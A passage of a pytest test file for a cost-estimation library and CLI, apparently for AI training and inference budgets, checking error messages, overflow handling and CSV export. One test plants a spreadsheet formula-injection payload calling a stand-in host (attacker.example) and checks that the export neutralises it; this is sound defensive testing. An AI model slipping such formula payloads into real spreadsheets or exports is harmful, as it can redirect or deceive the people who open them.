    (lambda: costlib.train_cost(np.array(["2027-01-01"], dtype="datetime64[D]"), 15e12, 2.0), costlib.InputTypeError,
     "params must hold numbers, got a datetime64[D] array"),
    (lambda: costlib.train_cost(np.timedelta64(5, "D"), 15e12, 2.0), costlib.InputTypeError,
     "params must be a number, got a timedelta64"),
    (lambda: costlib.train_cost(np.array([1 + 2j]), 15e12, 2.0), costlib.InputTypeError,
     "params must hold real numbers, got a complex array"),
    (lambda: costlib.train_cost([[7e9], [7e9, 8e9]], 15e12, 2.0), costlib.InputTypeError,
     "params must be a number or an array of numbers of one shape, got list"),
    (lambda: costlib.token_cost(1e308, 1e-300, 1.0), costlib.OutOfRangeError,
     "token_cost: the arguments make the result overflow"),
    (lambda: costlib.train_cost([70e9, 1e200], [15e12, 1e200], 2.0), costlib.OutOfRangeError,
     "train_cost: the arguments make the result overflow (beyond 1.8e308, the largest number Python and Excel hold) "
     "at position 1"),
]


@pytest.mark.parametrize("call, error, message", API_ARRAYS_REFUSED, ids=[c[2][:40] for c in API_ARRAYS_REFUSED])
def test_the_api_refuses_overflow_empty_and_mistyped_arrays(call, error, message):
    with pytest.raises(error) as raised:
        call()
    assert str(raised.value).startswith(message)
    assert isinstance(raised.value, InputError)


def test_never_stays_inf_and_no_numpy_warning_escapes():
    code = ("import warnings, costlib, numpy as np\n"
            "assert costlib.breakeven(1000, 0.3, 0.35) == float('inf')\n"  # own cost above price: never
            "assert np.isinf(costlib.breakeven([1000.0], 0.3, 0.35)).all()\n"
            "for call in (lambda: costlib.train_cost([1e200], [1e200], 2.0), lambda: costlib.token_cost([1e308], 1e-300, 1.0)):\n"
            "    try:\n        call()\n    except costlib.OutOfRangeError:\n        pass\n"
            "print('quiet')\n")
    done = subprocess.run([sys.executable, "-W", "error::RuntimeWarning", "-c", code], capture_output=True, text=True)
    assert (done.returncode, done.stdout, done.stderr) == (0, "quiet\n", "")


# ------------------------------------------------------------------------ the CLI: internal errors become messages


CLI_REFUSED = [  # (argv, exact message after "costlib: error: ")
    (["simulate", "budget", "--range", "mfu=30%:40%:50%", "-n", "100", "--output", "training_cost", "--output",
      "training_cost"], "--output must name each output once, got 'training_cost' 2 times"),
    (["simulate", "budget", "--range", "mfu=30%:40%:50%", "--csv", ""], "--csv must name a .csv file, got ''"),
    (["simulate", "budget", "--range", "mfu=30%:40%:50%", "--samples", " "], "--samples must name a .csv file, got ''"),
    (["simulate", "budget", "--range", "mfu=30%:40%:50%", "-n", "1e300"],
     "-n must be at most 10,000,000 draws (their samples must fit in memory), got 1e300"),
    (["simulate", "budget", "--range", "mfu=30%:40%:50%", "-n", "2.5"], "-n must be a whole number of draws, got 2.5"),
    (["simulate", "budget", "--range", "mfu=30%:40%:50%", "-n", "0"], "-n must be >= 1, got 0"),
    (["prices", "--limit", "0"], "--limit must be a whole number >= 1 (the most models to list), got 0"),
    (["prices", "--limit", "-3"], "--limit must be a whole number >= 1 (the most models to list), got -3"),
    (["generate", "budget", "--set", "PARAMS=8e9"], "'PARAMS' is not an input of the budget template; closest: params, "
                                                    "layers"),
    (["generate", "budget", "--set", "finetune_cost=50.000"],
     "finetune_cost must be a number, got text '50.000': it reads as 50000 (the point grouping thousands) or 50 (a "
     "decimal point), 1,000 times apart; type 50000 or 50"),
    (["generate", "budget", "--set", "train_price_per_gpu_hour=2,500"],
     "train_price_per_gpu_hour must be a number, got text '2,500': it reads as 2500 (the comma grouping thousands) or "
     "2.5 (a decimal comma), 1,000 times apart; type 2500 or 2.5"),
    (["generate", "budget", "--set", "monthly_overhead=10 000,5"],
     "monthly_overhead must be a number, got text '10 000,5': it looks like a European number (spaces grouping "
     "thousands, a decimal comma); type 10000.5"),
    (["generate", "budget", "--set", "params=7,0B"],
     "params must be a number, got text '7,0B': the comma is ambiguous (7.0B or 70B?); type 7.0B, or 70B without a "
     "comma"),
]


@pytest.mark.parametrize("argv, message", CLI_REFUSED, ids=[" ".join(c[0])[:50] for c in CLI_REFUSED])
def test_cli_refusals_are_one_exact_line(tmp_path, capsys, monkeypatch, argv, message):
    monkeypatch.chdir(tmp_path)
    err = refused(capsys, tmp_path, argv)
    assert err == f"costlib: error: {message}\n"
    assert list(tmp_path.iterdir()) == []


def test_a_library_warning_is_one_line_never_raw(tmp_path, capsys, monkeypatch):
    import warnings

    def noisy(args):
        warnings.warn("something odd in a library", UserWarning)
        warnings.warn("something odd in a library", UserWarning)
        return 0

    monkeypatch.setattr(cli, "cmd_templates", noisy)
    parser = cli.build_parser()
    monkeypatch.setattr(cli, "build_parser", lambda: parser)
    parser._subparsers._group_actions[0].choices["templates"].set_defaults(run=noisy)
    assert cli.main(["templates"]) == 0
    assert capsys.readouterr().err == "costlib: note: something odd in a library\n"


def test_templates_checks_the_defaults_as_generate_does(tmp_path, capsys):
    template = mutated(tmp_path, "default = 250000", "default = -1")
    both_commands_refuse(capsys, tmp_path, template, "reservation_cost must be >= 0, got -1")


def test_a_units_formula_text_stays_text_in_simulate_csv(tmp_path, capsys):
    template = mutated(tmp_path, 'unit = "Mtok"', 'unit = "=HYPERLINK(\\"http://attacker.example\\")"')
    out = tmp_path / "r.csv"
    assert cli.main(["simulate", str(template), "--range", "utilization=20%:35%:60%", "-n", "100", "--csv",
                     str(out)]) == 0
    lines = out.read_text().splitlines()
    row = next(line for line in lines if line.startswith("breakeven_m_tokens,"))
    assert row.startswith("breakeven_m_tokens,\"'=HYPERLINK(\"\"http://attacker.example\"\")\",")
    assert all(not line.split(",")[1].startswith("=") for line in lines)


def test_csv_cells_quote_formula_text_never_numbers():
    assert cli._csv_bytes([["x", "-5", "-1.5e3", "=1+1", "-x", "@SUM(A1)", "+1", 2.0]]) == \
        b"x,-5,-1.5e3,'=1+1,'-x,'@SUM(A1),+1,2.0\n"
